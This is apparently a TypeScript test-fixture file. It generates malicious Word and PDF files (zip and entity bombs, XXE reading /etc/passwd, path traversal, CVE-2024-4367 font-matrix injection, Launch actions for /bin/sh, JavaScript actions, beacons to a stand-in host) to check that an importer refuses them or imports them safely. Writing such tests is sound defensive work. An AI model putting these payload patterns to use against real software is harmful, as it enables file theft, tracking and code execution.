/**
 * Word documents and PDFs made to harm their reader.
 */
import { writeFileSync } from 'node:fs';
import { join } from 'node:path';
import type { CorpusCase } from '../corpus-case';
import { TEXT_CONTENT, WORDS, makePdf, makeStream, packedZeros } from '../pdf-maker';
import { WORD_NAMESPACES, makeDocx, makeZip, wordParagraph } from '../../../electron/import/testing/zip-maker';

const TEXT = wordParagraph(WORDS);
const relation = (type: string, target: string): string => `<Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${type}" Target="${target}" TargetMode="External"/>`;
const relations = (inner: string): string => `<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">${inner}</Relationships>`;

const docx = (name: string, content: () => Uint8Array, expect: CorpusCase['expect'], words?: string): CorpusCase => ({
  group: 'docx', name, fileName: `${name}.docx`, expect, ...(words === undefined ? {} : { words }),
  content: (folder) => ({ path: writeInto(folder, `${name}.docx`, content()) }),
});

function writeInto(folder: string, fileName: string, bytes: Uint8Array): string {
  const path = join(folder, fileName);
  writeFileSync(path, bytes);
  return path;
}

const ENTITIES = ['<!ENTITY a0 "ha">', ...Array.from({ length: 12 }, (_, index) => `<!ENTITY a${index + 1} "${`&a${index};`.repeat(10)}">`)].join('');

export const DOCX_CASES: readonly CorpusCase[] = [
  docx('zip-bomb', () => makeDocx('', [{ name: 'word/document.xml', content: new Uint8Array(300_000_000) }]), 'refused'),
  docx('zip-bomb-lying', () => makeDocx('', [{ name: 'word/document.xml', content: new Uint8Array(300_000_000), claimedSize: 2_000 }]), 'refused'),
  docx('zip-bomb-picture', () => makeDocx(TEXT, [{ name: 'word/media/image1.png', content: new Uint8Array(300_000_000) }]), 'imported', 'ministers met'),
  docx('entries-100000', () => makeZip([{ name: 'word/document.xml', content: 'x' }, ...Array.from({ length: 100_000 }, (_, index) => ({ name: `x/${index}`, content: '' }))]), 'refused'),
  docx('path-traversal', () => makeDocx(TEXT, [{ name: '../../../../tmp/dateline-evil.txt', content: 'evil' }, { name: '/etc/dateline-evil', content: 'evil' }, { name: 'C:\\evil.exe', content: 'evil' }]), 'imported', 'ministers met'),
  docx('symlink-entry', () => makeDocx('', [{ name: 'word/document.xml', content: '/etc/passwd', mode: 0o120777 }]), 'refused'),
  docx('symlink-media', () => makeDocx(TEXT, [{ name: 'word/media/image1.png', content: '/etc/passwd', mode: 0o120777 }]), 'imported', 'ministers met'),
  docx('external-relations', () => makeDocx(TEXT, [
    { name: '_rels/.rels', content: relations(`${relation('officeDocument', 'https://beacon.invalid/document.xml')}`) },
    { name: 'word/_rels/document.xml.rels', content: relations(relation('image', 'https://beacon.invalid/p.png') + relation('attachedTemplate', 'https://beacon.invalid/t.dotm') + relation('oleObject', 'file:///etc/passwd') + relation('frame', '\\\\beacon.invalid\\share')) },
  ]), 'imported', 'ministers met'),
  docx('entity-bomb', () => makeDocx('', [{ name: 'word/document.xml', content: `<?xml version="1.0"?><!DOCTYPE w [${ENTITIES}]><w:document ${WORD_NAMESPACES}><w:body>${wordParagraph('&a12;')}</w:body></w:document>` }]), 'refused'),
  docx('external-entity', () => makeDocx('', [{ name: 'word/document.xml', content: `<?xml version="1.0"?><!DOCTYPE w [<!ENTITY x SYSTEM "file:///etc/passwd">]><w:document ${WORD_NAMESPACES}><w:body>${wordParagraph('&x;')}</w:body></w:document>` }]), 'refused'),
  docx('nested-xml', () => makeDocx('', [{ name: 'word/document.xml', content: '<w:p>'.repeat(1_000_000) }]), 'refused'),
  docx('duplicate-part', () => makeZip([{ name: 'word/document.xml', content: `<w:document ${WORD_NAMESPACES}>${TEXT}</w:document>` }, { name: 'word/document.xml', content: `<w:document ${WORD_NAMESPACES}>${wordParagraph('Other words.')}</w:document>` }]), 'refused'),
  docx('style-circle', () => makeDocx(TEXT, [{ name: 'word/styles.xml', content: `<w:styles ${WORD_NAMESPACES}><w:style w:styleId="A"><w:basedOn w:val="B"/></w:style><w:style w:styleId="B"><w:basedOn w:val="A"/></w:style></w:styles>` }]), 'imported', 'ministers met'),
  docx('script-text', () => makeDocx(wordParagraph(`&lt;img src=x onerror=probe(1)&gt;&lt;script&gt;probe(2)&lt;/script&gt; ${WORDS}`)), 'imported', 'ministers met'),
  docx('cut-off', () => makeDocx(TEXT).slice(0, 300), 'refused'),
];

const pdf = (name: string, content: () => Uint8Array, expect: CorpusCase['expect'], words?: string): CorpusCase => ({
  group: 'pdf', name, fileName: `${name}.pdf`, expect, ...(words === undefined ? {} : { words }),
  content: (folder) => ({ path: writeInto(folder, `${name}.pdf`, content()) }),
});

export const PDF_CASES: readonly CorpusCase[] = [
  // CVE-2024-4367: a font matrix that was pasted into the source of a function.
  pdf('font-matrix', () => makePdf({ font: '/FontMatrix [0.1 0 0 0.1 0 (1\\); probe\\(1\\); alert\\(1\\);//)] /FontDescriptor 6 0 R', objects: ['<< /Type /FontDescriptor /FontName /X /FontMatrix [1 2 3 4 5 (0\\);probe\\(1\\)//)] >>'] }), 'imported', 'ministers met'),
  pdf('type3-font', () => makePdf({ font: '', page: '', objects: ['<< /Type /Font /Subtype /Type3 /FontBBox [0 0 1 1] /FontMatrix [1 0 0 1 0 (probe\\(1\\))] /CharProcs << >> /Encoding << >> /FirstChar 0 /LastChar 0 /Widths [0] >>'] }), 'imported', 'ministers met'),
  pdf('launch-action', () => makePdf({ catalog: '/OpenAction << /S /Launch /F (/bin/sh) /Win << /F (cmd.exe) >> >>' }), 'imported', 'ministers met'),
  pdf('javascript-action', () => makePdf({ catalog: '/OpenAction << /S /JavaScript /JS (app.alert\\(1\\); probe\\(1\\)) >> /Names << /JavaScript << /Names [(a) << /S /JavaScript /JS (probe\\(2\\)) >>] >> >>', page: '/AA << /O << /S /JavaScript /JS (probe\\(3\\)) >> >>' }), 'imported', 'ministers met'),
  pdf('uri-and-goto-remote', () => makePdf({ page: '/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 600 800] /A << /S /URI /URI (javascript:probe\\(1\\)) >> >> << /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /GoToR /F (\\\\\\\\beacon.invalid\\\\share) >> >>]', catalog: '/OpenAction << /S /SubmitForm /F (https://beacon.invalid/form) >>' }), 'imported', 'ministers met'),
  pdf('embedded-file', () => makePdf({ catalog: '/Names << /EmbeddedFiles << /Names [(../../../../tmp/evil.exe) << /Type /Filespec /F (../../evil.exe) /EF << /F 6 0 R >> >>] >> >>', objects: [makeStream('MZ evil', '/Type /EmbeddedFile')] }), 'imported', 'ministers met'),
  pdf('stream-bomb', () => makePdf({ content: packedZeros(1_000, 1), filters: '/FlateDecode' }), 'either'),
  pdf('stream-bomb-layers', () => makePdf({ content: packedZeros(1_000, 2), filters: '[/FlateDecode /FlateDecode]' }), 'either'),
  pdf('xref-loop', () => {
    const bytes = Buffer.from(makePdf({ trailer: '/Prev PREVPREV00' }));
    const start = /startxref\n(\d+)/.exec(bytes.toString('latin1'))?.[1] ?? '0';
    return new Uint8Array(Buffer.from(bytes.toString('latin1').replace('PREVPREV00', start.padStart(10, '0')), 'latin1'));
  }, 'imported', 'ministers met'),
  pdf('page-tree-loop', () => new Uint8Array(Buffer.from(Buffer.from(makePdf()).toString('latin1').replace('/Kids [3 0 R]', '/Kids [2 0 R]'), 'latin1')), 'either'),
  pdf('page-count-lie', () => new Uint8Array(Buffer.from(Buffer.from(makePdf()).toString('latin1').replace('/Count 1', '/Count 9999999'), 'latin1')), 'either'),
  pdf('truncated', () => makePdf().slice(0, 420), 'either'),
  pdf('no-xref', () => new Uint8Array(Buffer.from(Buffer.from(makePdf()).toString('latin1').replace(/xref[\s\S]*$/, ''), 'latin1')), 'either'),
  pdf('giant-page', () => makePdf({ mediaBox: '[-1e38 -1e38 1e38 1e38]' }), 'imported', 'ministers met'),
  pdf('nan-coordinates', () => makePdf({ content: `BT /F1 1e400 Tf 1e308 -1e308 1e308 0 0 1e999 Tm (${WORDS}) Tj ET ${TEXT_CONTENT}` }), 'either'),
  pdf('nested-arrays', () => makePdf({ catalog: `/X ${'['.repeat(200_000)}${']'.repeat(200_000)}` }), 'either'),
  pdf('nested-dictionaries', () => makePdf({ trailer: `/Info ${'<</A '.repeat(100_000)}1${'>>'.repeat(100_000)}` }), 'either'),
  pdf('form-recursion', () => makePdf({ content: '/X0 Do', page: '/Resources << /Font << /F1 5 0 R >> /XObject << /X0 6 0 R >> >>', objects: [makeStream(`${TEXT_CONTENT} /X0 Do`, '/Type /XObject /Subtype /Form /BBox [0 0 600 800] /Resources << /XObject << /X0 6 0 R >> /Font << /F1 5 0 R >> >>')] }), 'either'),
  pdf('million-operators', () => makePdf({ content: 'q Q '.repeat(1_000_000) + TEXT_CONTENT }), 'imported', 'ministers met'),
  pdf('script-text', () => makePdf({ content: `BT /F1 12 Tf 72 720 Td (<script>probe\\(1\\)</script><img src=x onerror=probe\\(2\\)> ${WORDS}) Tj ET`, trailer: '/Info << /Title (<svg onload=probe\\(3\\)>) /Author (" onmouseover="probe\\(4\\)) >>' }), 'imported', 'ministers met'),
  pdf('encrypted-unknown', () => makePdf({ trailer: '/Encrypt << /Filter /Standard /V 99 /R 99 /O (x) /U (y) /P -1 >> /ID [(a) (b)]' }), 'refused'),
];
